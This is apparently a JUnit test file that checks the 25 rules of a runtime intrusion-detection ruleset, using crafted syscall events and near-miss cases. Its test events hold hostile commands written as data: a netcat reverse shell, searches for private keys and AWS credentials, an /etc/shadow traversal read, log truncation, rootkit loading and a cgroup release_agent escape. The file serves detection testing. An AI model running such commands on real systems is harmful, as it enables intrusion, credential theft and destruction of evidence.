package dev.vigil.rules;

import static dev.vigil.rules.Fixtures.*;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.events.Container;
import dev.vigil.events.Event;
import dev.vigil.events.EventType;
import dev.vigil.events.Fd;
import dev.vigil.events.FlagSet;
import dev.vigil.events.Process;
import dev.vigil.rules.engine.RuleSet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

/**
 * Golden tests over the unmodified stable ruleset: for each of its 25 rules, an event built for the rule's
 * condition fires exactly the expected rules, and a near-miss event does not fire it.
 */
class GoldenStableTest {
    static RuleSet rs;

    @BeforeAll
    static void load() throws Exception {
        rs = Rules.load(List.of(TestFiles.stable()), OPTS);
    }

    static void fires(Event e, String... rules) {
        assertThat(fire(rs, e)).as(e.toString()).containsExactlyInAnyOrder(rules);
    }

    static void doesNotFire(Event e, String rule) {
        assertThat(fire(rs, e)).as(e.toString()).doesNotContain(rule);
    }

    static Event openRead(Process p, String path, String raw) {
        return ev(EventType.OPENAT, p).res(3).arg("name", raw).flags("flags", "O_RDONLY")
                .fd(Fd.builder().num(3).name(path).nameRaw(raw).build()).build();
    }

    static Event openWrite(Process p, Container c, String path, String... flags) {
        return ev(EventType.OPENAT, p).container(c).res(3).arg("name", path).flags("flags", flags).fd(Fd.file(3, path)).build();
    }

    static Event exec(Process p) { return ev(EventType.EXECVE, p).build(); }

    static Event exec(Process p, Container c) { return ev(EventType.EXECVE, p).container(c).build(); }

    static Process nginx(long ageNs) {
        return Process.builder().pid(300).name("nginx").argv("nginx", "-g", "daemon off;").exePath("/usr/sbin/nginx")
                .user(33, "www-data").parent(systemd()).startTs(NOW - ageNs).build();
    }

    @Test
    void directoryTraversal() {
        Process p = nginx(1_000_000_000L);
        fires(openRead(p, "/etc/shadow", "/var/www/html/../../../etc/shadow"),
                "Directory traversal monitored file read", "Read sensitive file untrusted");
        doesNotFire(openRead(p, "/etc/shadow", "/etc/shadow"), "Directory traversal monitored file read");
    }

    @Test
    void readSensitiveFileTrustedAfterStartup() {
        fires(openRead(nginx(60_000_000_000L), "/etc/shadow", "/etc/shadow"),
                "Read sensitive file trusted after startup", "Read sensitive file untrusted");
        doesNotFire(openRead(nginx(1_000_000_000L), "/etc/shadow", "/etc/shadow"), "Read sensitive file trusted after startup");
    }

    @Test
    void readSensitiveFileUntrusted() {
        fires(openRead(proc("cat", "cat", "/etc/shadow").build(), "/etc/shadow", "/etc/shadow"), "Read sensitive file untrusted");
        fires(openRead(proc("vim").build(), "/etc/sudoers.d/admins", "/etc/sudoers.d/admins"), "Read sensitive file untrusted");
        doesNotFire(openRead(proc("sshd").build(), "/etc/shadow", "/etc/shadow"), "Read sensitive file untrusted");
        doesNotFire(openRead(proc("cat").build(), "/etc/hosts", "/etc/hosts"), "Read sensitive file untrusted");
    }

    @Test
    void runShellUntrusted() {
        Process sh = Process.builder().pid(400).name("bash").argv("bash", "-c", "id").exePath("/usr/bin/bash")
                .user(33, "www-data").parent(nginx(60_000_000_000L)).build();
        fires(exec(sh), "Run shell untrusted");
        Process sh2 = Process.builder().pid(400).name("bash").argv("bash", "-c", "id").user(1000, "alice").parent(sshd()).build();
        doesNotFire(exec(sh2), "Run shell untrusted");
    }

    @Test
    void systemUserInteractive() {
        Process ls = Process.builder().pid(500).name("ls").argv("ls").user(33, "www-data").parent(bash()).build();
        fires(exec(ls), "System user interactive");
        doesNotFire(exec(proc("ls").build()), "System user interactive");
    }

    @Test
    void terminalShellInContainer() {
        Process runc = Process.builder().pid(600).name("runc:[1:CHILD]").argv("runc", "init").build();
        Process sh = Process.builder().pid(601).name("sh").argv("sh").user(0, "root").tty(34816).parent(runc).build();
        fires(exec(sh, container()), "Terminal shell in container");
        Process noTty = Process.builder().pid(601).name("sh").argv("sh").user(0, "root").tty(0).parent(runc).build();
        doesNotFire(exec(noTty, container()), "Terminal shell in container");
        doesNotFire(exec(sh, Container.HOST), "Terminal shell in container");
    }

    @Test
    void contactK8sApiServerFromContainer() {
        Fd api = Fd.builder().num(5).ip("10.244.0.5", 41000, "10.96.0.1", 443).l4proto(dev.vigil.events.L4Proto.TCP)
                .role(Fd.ROLE_CLIENT).serverIpName("kubernetes.default.svc.cluster.local").build();
        Container app = Container.builder().id("0123456789ab").image("docker.io/library/alpine:3.20").k8s("default", "app-1").build();
        fires(ev(EventType.CONNECT, proc("curl")).container(app).fd(api).build(), "Contact K8S API Server From Container");
        Container sys = Container.builder().id("0123456789ab").image("docker.io/library/alpine:3.20").k8s("kube-system", "app-1").build();
        doesNotFire(ev(EventType.CONNECT, proc("curl")).container(sys).fd(api).build(), "Contact K8S API Server From Container");
    }

    @Test
    void netcatInContainer() {
        fires(exec(proc("nc", "nc", "-e", "/bin/sh", "1.2.3.4", "4444").build(), container()), "Netcat Remote Code Execution in Container");
        doesNotFire(exec(proc("nc", "nc", "-l", "8080").build(), container()), "Netcat Remote Code Execution in Container");
    }

    @Test
    void searchPrivateKeys() {
        fires(exec(proc("grep", "grep", "-r", "BEGIN RSA PRIVATE", "/home").build()), "Search Private Keys or Passwords");
        fires(exec(proc("find", "find", "/", "-name", "id_rsa").build()), "Search Private Keys or Passwords");
        doesNotFire(exec(proc("grep", "grep", "hello", "/tmp/x").build()), "Search Private Keys or Passwords");
    }

    @Test
    void clearLogActivities() {
        fires(openWrite(proc("bash").build(), Container.HOST, "/var/log/syslog", "O_WRONLY", "O_TRUNC"), "Clear Log Activities");
        fires(openWrite(proc("bash").build(), Container.HOST, "/srv/app/auth.log", "O_RDWR", "O_TRUNC"), "Clear Log Activities");
        doesNotFire(openWrite(proc("bash").build(), Container.HOST, "/var/log/syslog", "O_WRONLY", "O_APPEND"), "Clear Log Activities");
    }

    @Test
    void removeBulkData() {
        fires(exec(proc("shred", "shred", "-u", "/data/db").build()), "Remove Bulk Data from Disk");
        doesNotFire(exec(proc("rm", "rm", "-rf", "/data/db").build()), "Remove Bulk Data from Disk");
    }

    @Test
    void createSymlinkOverSensitiveFiles() {
        fires(ev(EventType.SYMLINKAT, proc("ln")).arg("target", "/etc/shadow").arg("linkpath", "/tmp/s").build(),
                "Create Symlink Over Sensitive Files");
        fires(ev(EventType.SYMLINK, proc("ln")).arg("target", "/root").arg("linkpath", "/tmp/r").build(),
                "Create Symlink Over Sensitive Files");
        doesNotFire(ev(EventType.SYMLINKAT, proc("ln")).arg("target", "/etc/hosts").arg("linkpath", "/tmp/s").build(),
                "Create Symlink Over Sensitive Files");
    }

    @Test
    void createHardlinkOverSensitiveFiles() {
        fires(ev(EventType.LINKAT, proc("ln")).arg("oldpath", "/etc/shadow").arg("newpath", "/tmp/h").build(),
                "Create Hardlink Over Sensitive Files");
        doesNotFire(ev(EventType.LINKAT, proc("ln")).arg("oldpath", "/etc/hostname").arg("newpath", "/tmp/h").build(),
                "Create Hardlink Over Sensitive Files");
    }

    @Test
    void packetSocketInContainer() {
        fires(ev(EventType.SOCKET, proc("tcpdump")).container(container()).res(3).flags("domain", "AF_PACKET").build(),
                "Packet socket created in container");
        doesNotFire(ev(EventType.SOCKET, proc("tcpdump")).container(container()).res(3).flags("domain", "AF_INET").build(),
                "Packet socket created in container");
    }

    @Test
    void redirectStdioToNetwork() {
        Fd sock = Fd.tcp4(1, "172.17.0.2", 40000, "1.2.3.4", 4444);
        fires(ev(EventType.DUP2, proc("bash")).container(container()).res(1).arg("oldfd", 3).arg("newfd", 1).fd(sock).build(),
                "Redirect STDOUT/STDIN to Network Connection in Container");
        doesNotFire(ev(EventType.DUP2, proc("bash")).container(container()).res(5).arg("oldfd", 3).arg("newfd", 5).fd(sock).build(),
                "Redirect STDOUT/STDIN to Network Connection in Container");
    }

    @Test
    void kernelModuleInjection() {
        Process insmod = proc("insmod", "insmod", "rootkit.ko").user(0, "root").capEffective(1L << 16).build();
        fires(ev(EventType.FINIT_MODULE, insmod).container(container()).arg("fd", 3).build(), "Linux Kernel Module Injection Detected");
        Process weak = proc("insmod", "insmod", "rootkit.ko").capEffective(1L << 21).build();
        doesNotFire(ev(EventType.INIT_MODULE, weak).container(container()).build(), "Linux Kernel Module Injection Detected");
    }

    @Test
    void debugfsInPrivilegedContainer() {
        Container priv = Container.builder().id("0123456789ab").image("docker.io/library/debian:12").privileged(true).build();
        fires(exec(proc("debugfs", "debugfs", "/dev/sda1").build(), priv), "Debugfs Launched in Privileged Container");
        doesNotFire(exec(proc("debugfs", "debugfs", "/dev/sda1").build(), container()), "Debugfs Launched in Privileged Container");
    }

    @Test
    void releaseAgentEscape() {
        Process root = proc("sh").user(0, "root").capEffective(1L << 21).build();
        fires(openWrite(root, container(), "/sys/fs/cgroup/x/release_agent", "O_WRONLY"), "Detect release_agent File Container Escapes");
        Process noAdmin = proc("sh").user(0, "root").capEffective(1L << 1).build();
        doesNotFire(openWrite(noAdmin, container(), "/sys/fs/cgroup/x/release_agent", "O_WRONLY"), "Detect release_agent File Container Escapes");
    }

    @Test
    void ptraceAttached() {
        fires(ev(EventType.PTRACE, proc("gdb")).flags("request", "PTRACE_ATTACH").arg("pid", 1234).build(), "PTRACE attached to process");
        fires(ev(EventType.PTRACE, proc("inject")).flags("request", "PTRACE_POKETEXT").build(), "PTRACE attached to process");
        doesNotFire(ev(EventType.PTRACE, proc("gdb")).flags("request", "PTRACE_PEEKDATA").build(), "PTRACE attached to process");
    }

    @Test
    void ptraceAntiDebug() {
        fires(ev(EventType.PTRACE, proc("malware")).flags("request", "PTRACE_TRACEME").build(), "PTRACE anti-debug attempt");
        doesNotFire(ev(EventType.PTRACE, proc("malware")).flags("request", "PTRACE_CONT").build(), "PTRACE anti-debug attempt");
    }

    @Test
    void findAwsCredentials() {
        fires(exec(proc("find", "find", "/", "-name", ".aws/credentials").build()), "Find AWS Credentials");
        fires(exec(proc("grep", "grep", "-ri", "aws_secret_access_key", "/home").build()), "Find AWS Credentials");
        doesNotFire(exec(proc("find", "find", "/", "-name", "notes.txt").build()), "Find AWS Credentials");
    }

    @Test
    void executionFromDevShm() {
        fires(exec(proc("x", "/dev/shm/x").build()), "Execution from /dev/shm");
        fires(exec(proc("bash", "bash", "-c /dev/shm/x").build()), "Execution from /dev/shm");
        doesNotFire(exec(proc("x", "/usr/local/bin/x").build()), "Execution from /dev/shm");
    }

    @Test
    void dropAndExecute() {
        fires(exec(proc("miner", "./miner").exeUpperLayer(true).build(), container()), "Drop and execute new binary in container");
        doesNotFire(exec(proc("miner", "./miner").exeUpperLayer(false).build(), container()), "Drop and execute new binary in container");
        doesNotFire(exec(proc("miner", "./miner").exeUpperLayer(true).build(), Container.HOST), "Drop and execute new binary in container");
    }

    @Test
    void disallowedSshNonStandardPort() {
        Process ssh = proc("ssh", "ssh", "-p", "4444", "evil.example").build();
        fires(ev(EventType.CONNECT, ssh).fd(Fd.tcp4(3, "192.168.1.5", 50000, "8.8.8.8", 4444)).build(),
                "Disallowed SSH Connection Non Standard Port");
        fires(ev(EventType.CONNECT, ssh).res(-115).fd(Fd.tcp4(3, "192.168.1.5", 50000, "8.8.8.8", 443)).build(),
                "Disallowed SSH Connection Non Standard Port");
        doesNotFire(ev(EventType.CONNECT, ssh).fd(Fd.tcp4(3, "192.168.1.5", 50000, "8.8.8.8", 22)).build(),
                "Disallowed SSH Connection Non Standard Port");
        doesNotFire(ev(EventType.CONNECT, ssh).fd(Fd.tcp4(3, "192.168.1.5", 50000, "10.0.0.8", 4444)).build(),
                "Disallowed SSH Connection Non Standard Port");
        doesNotFire(ev(EventType.CONNECT, ssh).res(-111).fd(Fd.tcp4(3, "192.168.1.5", 50000, "8.8.8.8", 4444)).build(),
                "Disallowed SSH Connection Non Standard Port");
    }

    @Test
    void filelessExecution() {
        fires(exec(proc("x", "x").exePath("memfd:payload").exeFromMemfd(true).build()), "Fileless execution via memfd_create");
        doesNotFire(exec(proc("runc", "runc", "init").exePath("memfd:runc_cloned:/proc/self/exe").exeFromMemfd(true).build()),
                "Fileless execution via memfd_create");
    }

    @Test
    void everyStableRuleHasAGoldenCase() {
        assertThat(rs.rules()).hasSize(25);
        // 25 test methods above, one per rule: names listed in fires()/doesNotFire() calls
        Set<String> names = new java.util.HashSet<>();
        rs.rules().forEach(r -> names.add(r.name()));
        assertThat(names).contains("Directory traversal monitored file read", "Fileless execution via memfd_create",
                "Disallowed SSH Connection Non Standard Port", "PTRACE anti-debug attempt");
        assertThat(FlagSet.OPEN.byName("O_TRUNC")).isNotNull();
    }

    @Test
    void benignEventsFireNothing() {
        fires(exec(proc("ls", "ls", "-la").build()));
        fires(openRead(proc("cat").build(), "/home/alice/notes.txt", "/home/alice/notes.txt"));
        fires(ev(EventType.CONNECT, proc("curl")).fd(Fd.tcp4(3, "192.168.1.5", 50000, "93.184.216.34", 443)).build());
        fires(ev(EventType.CLOSE, proc("cat")).arg("fd", 3).build());
    }
}
